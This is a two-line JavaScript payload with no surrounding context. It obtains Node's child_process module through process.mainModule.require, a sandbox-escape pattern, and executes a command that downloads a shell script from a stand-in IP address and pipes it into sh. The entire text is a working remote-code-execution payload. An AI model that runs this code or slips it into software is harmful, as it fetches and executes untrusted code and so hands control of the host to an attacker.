const cp = process.mainModule.require('child_process');
cp.exec('curl -s http://203.0.113.3/x.sh | sh');
